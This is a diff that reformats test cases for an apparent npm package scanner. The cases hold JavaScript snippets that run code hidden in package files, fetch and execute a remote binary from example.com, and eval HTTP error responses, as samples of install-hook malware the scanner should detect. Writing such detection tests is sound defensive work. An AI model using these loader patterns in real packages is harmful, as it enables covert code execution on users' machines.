@@ -137,20 +137,31 @@ fn ways_to_code(#[case] call: &str) {
 #[rstest]
 #[case::read("eval(require('fs').readFileSync('./lib/a.txt', 'utf8'))")]
 #[case::read_bytes("eval(require('fs').readFileSync(__dirname + '/lib/a.txt').toString())")]
-#[case::read_joined("const p = require('path'); eval(require('fs').readFileSync(p.join(__dirname, 'lib', 'a.txt'), 'utf8'))")]
+#[case::read_joined(
+    "const p = require('path'); eval(require('fs').readFileSync(p.join(__dirname, 'lib', 'a.txt'), 'utf8'))"
+)]
 #[case::read_later("require('fs').readFile('lib/a.txt', 'utf8', (e, t) => eval(t))")]
 #[case::read_promised("require('fs').promises.readFile('lib/a.txt', 'utf8').then(eval)")]
 #[case::read_awaited("(async () => eval(await require('fs/promises').readFile('lib/a.txt', 'utf8')))()")]
 #[case::json("eval(require('./lib/a.json').code)")]
 #[case::json_pattern("const { code } = require('./lib/a.json'); new Function('require', code)(require)")]
 #[case::json_parsed("eval(JSON.parse(require('fs').readFileSync('lib/a.json')).code)")]
-#[case::runtime("fetch('https://example.com/bun').then(r => require('child_process').execFileSync(r.path, ['lib/b.js']))")]
+#[case::runtime(
+    "fetch('https://example.com/bun').then(r => require('child_process').execFileSync(r.path, ['lib/b.js']))"
+)]
 fn files_of_the_package_as_code(#[case] source: &str) {
     let code = "require('child_process').exec('id')";
     let json = format!("{{\"code\": \"{code}\"}}");
-    let files =
-        [("index.js", source), ("lib/a.json", json.as_str()), ("lib/a.txt", code), ("lib/b.js", "require('os').hostname()")];
-    let found = extract(&package(cerebro::package::Ecosystem::Npm, &files, vec![entry(Phase::Install, "hook", 0)]), &Reading::default());
+    let files = [
+        ("index.js", source),
+        ("lib/a.json", json.as_str()),
+        ("lib/a.txt", code),
+        ("lib/b.js", "require('os').hostname()"),
+    ];
+    let found = extract(
+        &package(cerebro::package::Ecosystem::Npm, &files, vec![entry(Phase::Install, "hook", 0)]),
+        &Reading::default(),
+    );
     let feature = if source.contains("b.js") { Feature::R2 } else { Feature::P2 };
     let steps = found.sequence.steps;
     let found = steps.iter().any(|step| step.feature == feature && step.phase == Phase::Install);
@@ -158,7 +169,10 @@ fn files_of_the_package_as_code(#[case] source: &str) {
 }
 
 #[rstest]
-#[case::answer_in_an_error("try { await axios.get('https://example.com') } catch (e) { eval(e.response.data) }", Feature::X12)]
+#[case::answer_in_an_error(
+    "try { await axios.get('https://example.com') } catch (e) { eval(e.response.data) }",
+    Feature::X12
+)]
 #[case::answer_as_code(
     "const axios = require('axios'); try { axios.get('https://example.com') } catch (e) { new Function('require', e.response.data)(require) }",
     Feature::X12
